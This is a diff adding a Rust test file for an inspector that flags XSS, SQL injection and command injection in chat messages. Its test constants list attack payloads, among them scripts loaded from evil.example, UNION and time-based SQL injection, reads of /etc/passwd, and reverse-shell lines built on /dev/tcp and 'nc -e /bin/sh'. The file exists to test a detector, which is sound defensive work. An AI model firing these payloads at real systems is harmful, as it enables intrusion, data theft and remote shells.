@@ -1,0 +1,261 @@
+//! The inspection stage's contract, end to end through [`Inspector`]: what the core issue
+//! requires to be caught, what must be left alone, and robustness on hostile input.
+
+use super::*;
+
+fn inspector() -> Inspector {
+    Inspector::new(&DetectionSettings {
+        xss: true,
+        sqli: true,
+        command_injection: true,
+        custom_patterns: &[],
+    })
+    .expect("no custom patterns")
+}
+
+fn tags(text: &str) -> Vec<AuditTag> {
+    let mut scratch = Scratch::default();
+    let mut findings = Vec::new();
+    inspector().inspect_text(text, MessagePart::Complete, &mut scratch, &mut findings);
+    findings.iter().map(|f| f.tag).collect()
+}
+
+fn assert_class(text: &str, tag: AuditTag) {
+    let t = tags(text);
+    assert!(t.contains(&tag), "{text:?} should raise {tag:?}, got {t:?}");
+}
+
+/// Wraps `text` the way chat clients send it, with Go's escaping of `<`, `>`, `&`.
+fn go_envelope(text: &str) -> String {
+    let inner = serde_json::to_string(text).expect("string serializes");
+    let inner = inner
+        .replace('<', "\\u003c")
+        .replace('>', "\\u003e")
+        .replace('&', "\\u0026");
+    format!(r#"{{"type":"message","data":{{"text":{inner}}}}}"#)
+}
+
+const XSS: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></script>",
+    "<img src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<div onmouseover=\"steal()\">hover</div>",
+    "<a href=\"javascript:alert(1)\">click</a>",
+    "<a href=\"jav&#x09;ascript&colon;alert(1)\">click</a>",
+    "<iframe src=\"//evil.example\"></iframe>",
+    "<object data=\"evil.swf\"></object>",
+    "<embed src=\"evil.swf\">",
+    "＜script＞alert(1)＜/script＞",
+    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+    "&lt;img src=x onerror=alert(1)&gt;",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "<svg/onload=alert(1)>",
+    "\";alert(1)//",
+];
+
+const SQLI: &[&str] = &[
+    "1 UNION SELECT username, password FROM users",
+    "' UNION ALL SELECT NULL,NULL--",
+    "' OR '1'='1",
+    "' or 1=1--",
+    "admin' OR 1=1#",
+    "1; SELECT SLEEP(5)",
+    "' AND SLEEP(5)--",
+    "'; WAITFOR DELAY '0:0:5'--",
+    "1' AND (SELECT table_name FROM INFORMATION_SCHEMA.TABLES LIMIT 1)='a",
+    "-1 union select 1,table_name from information_schema.tables",
+];
+
+const CMDI: &[&str] = &[
+    "; cat /etc/passwd",
+    "127.0.0.1 | id",
+    "x && whoami",
+    "`id`",
+    "$(whoami)",
+    "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
+    "nc -e /bin/sh 1.2.3.4 4444",
+    "; w'h'oami",
+    ";cat${IFS}/etc/passwd",
+];
+
+const BENIGN: &[&str] = &[
+    "Hi; how are you?",
+    "a | b",
+    "I love C#",
+    "see you --",
+    "0xdeadbeef",
+    "online=true",
+    "I need sleep (8h)",
+    "SELECT your favourite",
+    "I'll be there; don't wait",
+    "cats & dogs",
+    "5 > 3 and 2 < 4",
+    "Tom & Jerry <3",
+    "use <b>bold</b> for emphasis",
+    "it's 5 o'clock; time for tea",
+    "rm -rf is dangerous, don't run it",
+    "the file is /etc/passwd on most systems",
+    "{\"type\":\"message\",\"data\":{\"text\":\"hello there\"}}",
+];
+
+#[test]
+fn detects_xss() {
+    for t in XSS {
+        assert_class(t, AuditTag::Xss);
+    }
+}
+
+#[test]
+fn detects_sqli() {
+    for t in SQLI {
+        assert_class(t, AuditTag::Sqli);
+    }
+}
+
+#[test]
+fn detects_command_injection() {
+    for t in CMDI {
+        assert_class(t, AuditTag::CmdInjection);
+    }
+}
+
+#[test]
+fn leaves_ordinary_chat_alone() {
+    for t in BENIGN {
+        assert_eq!(tags(t), Vec::<AuditTag>::new(), "flagged {t:?}");
+    }
+}
+
+#[test]
+fn json_envelopes_change_nothing() {
+    for (texts, tag) in [
+        (XSS, AuditTag::Xss),
+        (SQLI, AuditTag::Sqli),
+        (CMDI, AuditTag::CmdInjection),
+    ] {
+        for t in texts {
+            assert_class(&go_envelope(t), tag);
+            let plain = format!(
+                r#"{{"type":"message","data":{{"text":{}}}}}"#,
+                serde_json::to_string(t).expect("string serializes")
+            );
+            assert_class(&plain, tag);
+        }
+    }
+    for t in BENIGN {
+        assert_eq!(
+            tags(&go_envelope(t)),
+            Vec::<AuditTag>::new(),
+            "flagged {t:?}"
+        );
+    }
+}
+
+#[test]
+fn lossily_decoded_text_is_inspected() {
+    let bytes = b"\xff\xfe<script>alert(1)</script>\xc3";
+    let text = String::from_utf8_lossy(bytes);
+    assert_class(&text, AuditTag::Xss);
+    let mut scratch = Scratch::default();
+    let mut findings = Vec::new();
+    inspector().inspect_binary(bytes, MessagePart::Complete, &mut scratch, &mut findings);
+    assert!(findings.iter().any(|f| f.tag == AuditTag::Xss));
+}
+
+#[test]
+fn partial_windows_still_use_raw_and_decoded_views() {
+    let mut scratch = Scratch::default();
+    let mut findings = Vec::new();
+    inspector().inspect_text(
+        "%3Cscript%3Ealert(1)",
+        MessagePart::Partial,
+        &mut scratch,
+        &mut findings,
+    );
+    assert!(findings.iter().any(|f| f.tag == AuditTag::Xss));
+}
+
+#[test]
+fn findings_carry_rule_ids_and_one_per_class() {
+    let mut scratch = Scratch::default();
+    let mut findings = Vec::new();
+    inspector().inspect_text(
+        "<script>alert(1)</script><img src=x onerror=alert(1)>",
+        MessagePart::Complete,
+        &mut scratch,
+        &mut findings,
+    );
+    assert_eq!(findings.len(), 1);
+    assert_eq!(findings[0].rule_id, "xss-active-tag");
+}
+
+#[test]
+fn disabled_detectors_do_not_run() {
+    let only_sqli = Inspector::new(&DetectionSettings {
+        xss: false,
+        sqli: true,
+        command_injection: false,
+        custom_patterns: &[],
+    })
+    .expect("valid");
+    let mut scratch = Scratch::default();
+    let mut findings = Vec::new();
+    only_sqli.inspect_text(
+        "<script>x</script>",
+        MessagePart::Complete,
+        &mut scratch,
+        &mut findings,
+    );
+    assert!(findings.is_empty());
+}
+
+#[test]
+fn hostile_inputs_do_not_panic() {
+    let mut scratch = Scratch::default();
+    let mut findings = Vec::new();
+    let insp = inspector();
+    let mut inputs: Vec<Vec<u8>> = vec![
+        b"<".repeat(10_000),
+        b"'".repeat(10_000),
+        b"(".repeat(10_000),
+        b"[".repeat(10_000),
+        b"{{".repeat(5_000),
+        b"%".repeat(1000),
+        b"%2".repeat(1000),
+        b"&#".repeat(1000),
+        b"\\u{".repeat(1000),
+        b"\\".repeat(1000),
+        b"<a x=\"".repeat(1000),
+        b"/*!".repeat(1000),
+        b"$(".repeat(1000),
+        b"`".repeat(1000),
+        "＜".repeat(1000).into_bytes(),
+    ];
+    // Every short byte string over an alphabet of syntax characters.
+    let alphabet = b"<>'\"`;|&$(){}[]%#-/*\\=:, ax1";
+    for &a in alphabet {
+        for &b in alphabet {
+            for &c in alphabet {
+                inputs.push(vec![a, b, c]);
+            }
+        }
+    }
+    // Pseudo-random bytes.
+    let mut x: u32 = 0x1234_5678;
+    let mut random = Vec::with_capacity(50_000);
+    for _ in 0..50_000 {
+        x ^= x << 13;
+        x ^= x >> 17;
+        x ^= x << 5;
+        random.push(x as u8);
+    }
+    inputs.push(random);
+    for input in &inputs {
+        findings.clear();
+        insp.inspect_binary(input, MessagePart::Complete, &mut scratch, &mut findings);
+        let text = String::from_utf8_lossy(input);
+        insp.inspect_text(&text, MessagePart::Complete, &mut scratch, &mut findings);
+        insp.inspect_text(&text, MessagePart::Partial, &mut scratch, &mut findings);
+    }
+}
